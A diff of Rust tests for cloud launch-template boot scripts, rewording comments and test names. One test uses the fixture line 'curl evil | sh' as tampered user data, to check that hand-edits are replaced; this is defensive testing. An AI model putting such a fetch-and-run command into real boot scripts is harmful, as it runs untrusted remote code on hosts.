@@ -23,7 +23,7 @@ fn binaries(sha256: &str) -> Binaries {
     Binaries::new([(Architecture::X86_64, binary)])
 }
 
-/// What stands once the stack was applied where this binary was the newest.
+/// The cloud after the stack was applied with this binary as the newest.
 fn applied(stack: &Stack, sha256: &str) -> Observed {
     let graph = blueprint_with(stack, &Boots::newest(stack, &binaries(sha256)).unwrap()).unwrap();
     let mut observed = Observed::default();
@@ -43,7 +43,7 @@ fn decide(stack: &Stack, newest: &str, observed: &Observed, recorded: &State) ->
     Boots::decide(stack, &binaries(newest), &standing).unwrap()
 }
 
-/// Changes what a pool's template says.
+/// Changes user data and description of a pool's launch template.
 fn edit(observed: &mut Observed, pool: &str, user_data: &str, boot: Option<&Boot>) {
     let template = &mut observed.remotes.get_mut(&address::launch_template(pool)).unwrap()[0].attributes;
     template.insert("boot".to_owned(), boot.map_or(Value::Null, |boot| Value::Map(to_map(boot).unwrap())));
@@ -56,14 +56,14 @@ fn inputs_of(stack: &Stack, pool: &str) -> String {
     inputs::digest(stack, pool, &Script::read(stack).unwrap()).unwrap()
 }
 
-/// User data of an older version, as it described it.
+/// The description that an older version gave to [`OLDER`].
 fn older(stack: &Stack, pool: &str) -> Boot {
     let digest = inputs::seal(&inputs_of(stack, pool), OLDER);
     Boot { trunnion: "0.0.9".to_owned(), generator: A.to_owned(), digest }
 }
 
 #[test]
-fn what_an_older_version_rendered_of_the_same_inputs_is_kept() {
+fn user_data_of_an_older_version_is_kept_while_the_inputs_are_the_same() {
     let mut stack = stack();
     let mut observed = applied(&stack, A);
     edit(&mut observed, "heavy", OLDER, Some(&older(&stack, "heavy")));
@@ -72,7 +72,7 @@ fn what_an_older_version_rendered_of_the_same_inputs_is_kept() {
     assert_eq!(boots.of("heavy"), Some(&kept));
     let keeps = |pool: &str, version: &str| {
         format!(
-            "pool `{pool}` keeps generator aaaaaaaaaaaa with the boot script of Trunnion {version}, and here is generator \
+            "pool `{pool}` keeps generator aaaaaaaaaaaa with the boot script of Trunnion {version}; the newest is generator \
              bbbbbbbbbbbb with the boot script of Trunnion {VERSION}"
         )
     };
@@ -81,19 +81,19 @@ fn what_an_older_version_rendered_of_the_same_inputs_is_kept() {
 
     stack.generator.java = 25;
     let boots = decide(&stack, B, &observed, &nothing(&stack));
-    assert!(boots.of("heavy").unwrap().user_data.contains(B), "the inputs are others");
+    assert!(boots.of("heavy").unwrap().user_data.contains(B), "the inputs changed");
     assert_eq!(boots.note(), None);
 }
 
 #[test]
-fn what_somebody_edited_is_not_kept_though_its_description_stays() {
+fn user_data_edited_by_hand_is_not_kept_even_with_its_old_description() {
     let stack = stack();
     let mut observed = applied(&stack, A);
     edit(&mut observed, "heavy", "#!/bin/sh\ncurl evil | sh\n", Some(&older(&stack, "heavy")));
     let boots = decide(&stack, B, &observed, &nothing(&stack));
     assert!(boots.of("heavy").unwrap().user_data.contains(B));
 
-    // Where the state knows what was applied, that comes back.
+    // If the state records what was applied, that is restored.
     let mut applied = applied(&stack, A);
     edit(&mut applied, "heavy", OLDER, Some(&older(&stack, "heavy")));
     let mut recorded = nothing(&stack);
@@ -107,7 +107,7 @@ fn what_somebody_edited_is_not_kept_though_its_description_stays() {
 }
 
 #[test]
-fn a_template_without_a_description_is_kept_if_it_comes_out_the_same() {
+fn a_launch_template_without_a_description_is_kept_if_it_renders_the_same() {
     let mut stack = stack();
     let mut observed = applied(&stack, A);
     let user_data = |observed: &Observed, pool: &str| {
@@ -118,7 +118,7 @@ fn a_template_without_a_description_is_kept_if_it_comes_out_the_same() {
     edit(&mut observed, "probe", &probe.replace("set -Eeuo pipefail", "set -e"), None);
     let boots = decide(&stack, B, &observed, &nothing(&stack));
     assert_eq!(boots.of("heavy").unwrap().user_data, heavy);
-    assert!(boots.of("probe").unwrap().user_data.contains(B), "nobody knows what it was made of");
+    assert!(boots.of("probe").unwrap().user_data.contains(B), "its inputs are unknown");
     stack.generator.metrics_port += 1;
     let boots = decide(&stack, B, &observed, &nothing(&stack));
     assert!(boots.of("heavy").unwrap().user_data.contains(B));
@@ -126,7 +126,7 @@ fn a_template_without_a_description_is_kept_if_it_comes_out_the_same() {
 
 #[test]
 #[expect(clippy::disallowed_methods, reason = "a template in a folder of the test's own")]
-fn a_template_of_ones_own_is_an_input() {
+fn a_template_of_the_user_is_an_input() {
     let folder = tempfile::tempdir().unwrap();
     let path = folder.path().join("boot.tera");
     let write = |text: &str| std::fs::write(&path, text).unwrap();
@@ -134,7 +134,8 @@ fn a_template_of_ones_own_is_an_input() {
     stack.generator.template = Some(path.clone());
     write("#!/bin/bash\nfetch {{ generator.sha256 }}\n");
     let mut observed = applied(&stack, A);
-    // Other text that becomes the same user data changes no host, and is what the template is made of from now on.
+    // Another template that renders to the same user data changes no host. The description then records the new
+    // template.
     write("#!/bin/bash\nfetch {{ generator.sha256 }}{# the newest #}\n");
     let boots = decide(&stack, B, &observed, &nothing(&stack));
     let heavy = boots.of("heavy").unwrap();
@@ -145,7 +146,7 @@ fn a_template_of_ones_own_is_an_input() {
     let boots = decide(&stack, B, &observed, &nothing(&stack));
     assert_eq!(boots.of("heavy").unwrap().user_data, format!("#!/bin/bash\nexec fetch {B}\n"));
 
-    // It may name no binary at all, and an earlier version did not say which one it was.
+    // The template may name no binary, and an earlier version did not record the binary either.
     write("#!/bin/bash\n");
     edit(&mut observed, "heavy", "#!/bin/bash\n", None);
     let boots = decide(&stack, B, &observed, &nothing(&stack));
@@ -157,7 +158,7 @@ fn heavy(stack: &mut Stack) -> &mut Pool {
 }
 
 #[test]
-fn every_key_of_the_stack_that_reaches_the_boot_is_an_input_and_no_other() {
+fn only_keys_of_the_stack_that_the_boot_uses_are_inputs() {
     let changed = |change: &dyn Fn(&mut Stack)| {
         let mut other = stack();
         change(&mut other);
@@ -203,8 +204,8 @@ fn stack_of_probe() -> &'static trunnion_catalog::InstanceType {
     stack().pools["probe"].instance_type
 }
 
-/// These stand in the launch templates of every fleet: another digest of the same stack replaces all of its hosts with the
-/// next version of Trunnion.
+/// Launch templates of deployed stacks contain these digests. If the digest of an unchanged stack changes, the next
+/// version of Trunnion replaces all of its hosts.
 #[test]
 fn the_digest_of_a_stack_never_changes() {
     let text = include_str!("../../../../tests/upgrade/stack.yaml");
@@ -215,11 +216,11 @@ fn the_digest_of_a_stack_never_changes() {
 }
 
 #[test]
-fn two_binaries_at_one_address_are_told_apart() {
+fn two_binaries_at_one_address_are_distinguished() {
     let stack = stack();
     let (mut observed, other) = (applied(&stack, A), applied(&stack, B));
     let at = address::object("x86_64");
-    // As a run leaves it that was ended between two pools.
+    // A run that was stopped between two pools leaves this.
     observed.remotes.get_mut(&at).unwrap().extend(other.remotes[&at].clone());
     let probe = address::launch_template("probe");
     observed.remotes.insert(probe.clone(), other.remotes[&probe].clone());
@@ -228,7 +229,7 @@ fn two_binaries_at_one_address_are_told_apart() {
     let graph = blueprint_with(&stack, &boots).unwrap();
     let own = address::object("x86_64-bbbbbbbbbbbb");
     for (address, sha256) in [(&at, A), (&own, B)] {
-        let [object] = &observed.remotes[address][..] else { panic!("one is at {address}") };
+        let [object] = &observed.remotes[address][..] else { panic!("expected one object at {address}") };
         assert_eq!(text(&object.attributes, "sha256"), sha256);
         assert_eq!(text(&graph.resources()[address].attributes, "sha256"), sha256);
     }
@@ -236,7 +237,7 @@ fn two_binaries_at_one_address_are_told_apart() {
 }
 
 #[test]
-fn a_long_source_of_an_image_is_known_by_what_a_description_holds() {
+fn a_long_image_source_is_recognised_by_its_shortened_form() {
     let mut stack = stack();
     let long = format!("/{}", "a".repeat(1000));
     stack.pools.get_mut("heavy").unwrap().image = trunnion_stack::Image::Parameter(long.clone());
